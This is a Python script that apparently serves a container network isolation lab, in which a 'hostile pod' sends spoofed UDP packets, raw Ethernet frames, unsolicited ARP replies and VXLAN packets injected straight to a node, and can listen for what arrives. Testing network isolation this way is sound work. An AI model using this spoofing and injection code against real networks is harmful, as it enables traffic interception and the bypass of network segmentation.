"""What a hostile pod does, run inside its network with `lab exec … python3 attacks.py WHAT …`; standard library only.

udp SOURCE TARGET PORT TEXT           a UDP packet with a source address of its choice, through the kernel's routes
frame SRC_MAC SOURCE DST_MAC TARGET PORT TEXT   the same as a raw Ethernet frame
arp SRC_MAC SENDER TARGET_MAC TARGET  an ARP reply that nobody asked for
vxlan HOST VNI SOURCE TARGET PORT TEXT          VXLAN to a node, with a UDP packet inside
listen PORT                           print "ready", then the text of every UDP packet that arrives
"""

import socket
import struct
import sys


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def mac(text: str) -> bytes:
    return bytes.fromhex(text.replace(":", ""))


def pod_mac(address: str) -> bytes:
    return b"\x0a\x58" + socket.inet_aton(address)


def ip_packet(source: str, target: str, port: int, text: str) -> bytes:
    data = text.encode()
    udp = struct.pack("!HHHH", 4000, port, 8 + len(data), 0) + data
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 7, 0, 64, 17, 0)
    head += socket.inet_aton(source) + socket.inet_aton(target)
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + udp


def raw(frame: bytes) -> None:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind(("eth0", 0))
        wire.send(frame)


def send_udp(source: str, target: str, port: str, text: str) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as wire:
        wire.sendto(ip_packet(source, target, int(port), text), (target, 0))


def send_frame(source_mac: str, source: str, target_mac: str, target: str, port: str, text: str) -> None:
    raw(mac(target_mac) + mac(source_mac) + b"\x08\x00" + ip_packet(source, target, int(port), text))


def send_arp(source_mac: str, sender: str, target_mac: str, target: str) -> None:
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2)
    body += mac(source_mac) + socket.inet_aton(sender) + mac(target_mac) + socket.inet_aton(target)
    raw(mac(target_mac) + mac(source_mac) + b"\x08\x06" + body)


def send_vxlan(host: str, vni: str, source: str, target: str, port: str, text: str) -> None:
    inner = pod_mac(target) + pod_mac(source) + b"\x08\x00" + ip_packet(source, target, int(port), text)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as wire:
        wire.sendto(struct.pack("!II", 0x08000000, int(vni) << 8) + inner, (host, 4789))


def listen(port: str) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as wire:
        wire.bind(("0.0.0.0", int(port)))
        print("ready", flush=True)
        while True:
            print(wire.recv(2048).decode(), flush=True)


if __name__ == "__main__":
    what = {"udp": send_udp, "frame": send_frame, "arp": send_arp, "vxlan": send_vxlan, "listen": listen}
    what[sys.argv[1]](*sys.argv[2:])
